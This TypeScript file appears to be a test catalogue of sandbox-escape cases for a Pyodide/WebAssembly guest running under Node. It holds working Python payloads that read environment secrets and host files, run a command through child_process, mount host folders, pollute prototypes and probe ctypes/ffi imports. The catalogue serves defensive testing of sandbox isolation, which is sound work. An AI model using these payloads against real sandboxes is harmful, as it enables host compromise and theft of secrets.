/** Ways from Python to JavaScript that Pyodide has, and from a guest's memory to more. */
import type { Attack, Oracle } from './attack.ts';

/** Through plain Pyodide, to something of Node's. */
function byPyodide(title: string, known: string, oracle: Oracle, code: string): Attack {
  return { title, known, oracle, code, wall: 'wasm', bare: 'pyodide' };
}

/** To an import of the module: what is behind it is the host. */
function toImport(title: string, known: string, gate: string, code: string): Attack {
  return { title, known, code, wall: 'wasm', bare: { gate }, oracle: { kind: 'guest' } };
}

const FILE = { kind: 'secret', in: 'file' } as const;
const ENVIRONMENT = { kind: 'secret', in: 'environment' } as const;
const MARK = { kind: 'mark' } as const;

export const WASM: readonly Attack[] = [
  byPyodide(
    'the module js is globalThis, with the environment of the process',
    "Pyodide's documentation: import js",
    ENVIRONMENT,
    'import js\njs.process.env.to_py() if hasattr(js.process.env, "to_py") else getattr(js.process.env, secret_name)\ngetattr(js.process.env, secret_name)',
  ),
  byPyodide(
    'run_js evaluates JavaScript',
    'pyodide.code.run_js, in write-ups of sandboxes on Pyodide',
    ENVIRONMENT,
    'from pyodide.code import run_js\nrun_js(f"process.env.{secret_name}")',
  ),
  byPyodide(
    'JavaScript is reached without the module js, by the functions of any proxy',
    'constructor.constructor, as in vm2 and Angular',
    ENVIRONMENT,
    'from pyodide.ffi import to_js\nto_js([1]).constructor.constructor(f"return process.env.{secret_name}")()',
  ),
  byPyodide(
    'the finder of JavaScript modules is taken from sys.meta_path',
    'jsfinder, where import js is guarded',
    ENVIRONMENT,
    `
import sys
finder = next(item for item in sys.meta_path if hasattr(item, "jsproxies"))
getattr(finder.jsproxies["js"].process.env, secret_name)`,
  ),
  byPyodide(
    'the file system of Node is had from process',
    'process.getBuiltinModule, process.binding',
    FILE,
    `
from pyodide.code import run_js
run_js("process.getBuiltinModule('node:fs')").readFileSync(secret_path, "utf8")`,
  ),
  byPyodide(
    'a program is started by Node',
    'child_process: from Pyodide to the host in one line (2024 and on)',
    MARK,
    `
from pyodide.code import run_js
run_js("process.getBuiltinModule('node:child_process')").execSync("touch " + mark_path)`,
  ),
  byPyodide(
    'a folder of the host is mounted by the guest',
    'NODEFS, pyodide_js.mountNodeFS',
    FILE,
    `
import pyodide_js, posixpath
pyodide_js.FS.mkdirTree("/planted")
pyodide_js.FS.mount(pyodide_js.FS.filesystems.NODEFS, pyodide_js.toPy and __import__("pyodide.ffi").ffi.to_js({"root": secret_folder}, dict_converter=__import__("js").Object.fromEntries), "/planted")
open("/planted/canary.py").read()`,
  ),
  byPyodide(
    'the prototype of all objects of the host is changed',
    'prototype pollution by js.Object.prototype',
    ENVIRONMENT,
    `
import js
js.Object.prototype.seen = getattr(js.process.env, secret_name)
found = js.Object.new().seen
js.Reflect.deleteProperty(js.Object.prototype, "seen")
found`,
  ),
  byPyodide(
    'a file of the host is written by Node',
    'fs.writeFileSync behind import js',
    MARK,
    `
from pyodide.code import run_js
run_js("process.getBuiltinModule('node:fs')").writeFileSync(mark_path, "made")`,
  ),
  byPyodide(
    'a stack of JavaScript is an object whose constructor is Function',
    'JsException.js_error in write-ups',
    ENVIRONMENT,
    `
from pyodide.code import run_js
from pyodide.ffi import JsException
try:
    run_js("null.x")
except JsException as error:
    found = error.constructor.constructor(f"return process.env.{secret_name}")()
found`,
  ),
  toImport(
    'a symbol of the module is looked up by its name',
    'emscripten_run_script by ctypes.pythonapi and _dlsym',
    '_dlsym_js',
    'outcome(lambda: ctypes.pythonapi.emscripten_run_script) == "done"',
  ),
  toImport(
    'a side module is loaded from a file that the guest has written',
    "Emscripten's dynamic linking: dlopen",
    '_dlopen_js',
    `
open("/tmp/x.so", "wb").write(bytes([0, 97, 115, 109, 1, 0, 0, 0]))
outcome(lambda: ctypes.CDLL("/tmp/x.so")) == "done"`,
  ),
  toImport(
    'a function is called by its place in the table',
    'libffi on WebAssembly: ffi_call takes any index',
    'ffi_call_js',
    'outcome(lambda: ctypes.CFUNCTYPE(ctypes.c_int)(5)()) == "done"',
  ),
  toImport(
    'a function of Python is put into the table',
    'ffi_prep_closure_loc: code of JavaScript made for a guest',
    'ffi_prep_closure_loc_js',
    'outcome(lambda: ctypes.CFUNCTYPE(None)(print)) == "done"',
  ),
];
